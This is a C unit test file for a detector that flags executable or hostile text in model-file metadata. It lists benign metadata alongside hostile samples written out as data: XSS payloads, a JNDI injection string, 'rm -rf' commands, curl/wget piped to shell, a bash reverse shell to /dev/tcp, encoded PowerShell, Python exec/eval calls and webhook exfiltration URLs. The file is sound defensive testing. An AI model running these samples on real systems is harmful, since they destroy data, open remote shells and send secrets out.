/* SPDX-License-Identifier: Apache-2.0 */
#include "../testing.h"

#include "format/active_text.h"

typedef struct sample {
    const char *key;
    const char *text;
} sample;

static bool is_active(const sample *value) {
    active_text found;
    return active_text_find(&found, value->key, value->text, strlen(value->text));
}

static void text_to_be_run_is_found(void **state) {
    (void)state;
    static const sample table[] = {
        {"note", "hello <SCRIPT src=x>"},
        {"note", "<script>alert(1)</script>"},
        {"note", "<img src=x onerror = alert(1)>"},
        {"note", "<svg/onload=alert(1)>"},
        {"note", "<a href=\"javascript:alert(1)\">x</a>"},
        {"url", "javascript:alert(1)"},
        {"note", "<iframe width=1 src=//h>"},
        {"note", "${jndi:ldap://h/a}"},
        {"cmd", "rm -rf /"},
        {"cmd", "cd x; rm -r -f ~/.ssh"},
        {"cmd", "sudo rm -fr *"},
        {"cmd", "curl -s https://h/x.sh | bash"},
        {"cmd", "wget -qO- h.io/x |sudo sh -s"},
        {"cmd", "echo x | base64 -d | python3"},
        {"cmd", "bash -c \"$(curl -fsSL h)\""},
        {"cmd", "chmod 777 /tmp/x"},
        {"cmd", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1"},
        {"cmd", "powershell -enc AAAA"},
        {"run", "#!/bin/sh\nid"},
        {"code", "import os; os.system('id')"},
        {"code", "import os;"},
        {"code", "import os"},
        {"code", "import subprocess"},
        {"code", "x=subprocess.Popen(['id'])"},
        {"code", "__import__('os')"},
        {"code", "eval(base64.b64decode('aWQ='))"},
        {"code", "exec(\"id\")"},
        {"code", "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
        {"callback_url", "http://h.example/x"},
        {"x", "send to https://webhook.site/0000"},
        {"x", "https://discord.com/api/webhooks/1/abc"},
    };
    for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
        if (!is_active(&table[i])) {
            fail_msg("not found: %s", table[i].text);
        }
    }
}

static void honest_metadata_is_left_alone(void **state) {
    (void)state;
    static const sample table[] = {
        {"format", "pt"},
        {"ss_network_args", "{\"conv_dim\": \"8\", \"algo\": \"lora\"}"},
        {"ss_optimizer", "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1,betas=(0.9, 0.99))"},
        {"ss_tag_frequency", "{\"10_x\": {\"1girl\": 4, \"<lora:x:0.8>\": 1, \"curly hair\": 2}}"},
        {"ss_dataset_dirs", "{\"C:\\\\Users\\\\me\\\\train\": {\"n_repeats\": 10}}"},
        {"ss_training_comment", "see https://github.com/kohya-ss/sd-scripts for it"},
        {"modelspec.thumbnail", "data:image/jpeg;base64,/9j/4AAQSkZJRg=="},
        {"modelspec.description",
         "<p>A <b>style</b>. <a href=\"https://civitai.com/x\">More</a></p>"},
        {"modelspec.usage_hint", "Call model.eval() before use. import torch\nimport os\n"},
        {"comment", "wget https://huggingface.co/x/y/resolve/main/model.safetensors"},
        {"comment", "curl -L https://h/x | tee log"},
        {"comment", "accelerate launch train.py --save_model_as=safetensors --rm -rfx"},
        {"comment", "farm -rf x"},
        {"comment", "eval(loss) = 0.1, eval (test) better; exec(ution) time 3 s"},
        {"comment", "onerror = ignore; onload=1; a < b onload=c"},
        {"comment", "on the <iframe> and <scripted> tokens"},
        {"url", "https://example.com/model?x=1"},
        {"tracker", "http://127.0.0.1:6006/"},
        {"recall_back_url", "no address"},
        {"license", "https://creativecommons.org/licenses/by/4.0/"},
    };
    for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
        active_text found = {0};
        if (active_text_find(&found, table[i].key, table[i].text, strlen(table[i].text))) {
            fail_msg("%s in: %s", found.what, table[i].text);
        }
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(text_to_be_run_is_found),
        cmocka_unit_test(honest_metadata_is_left_alone),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
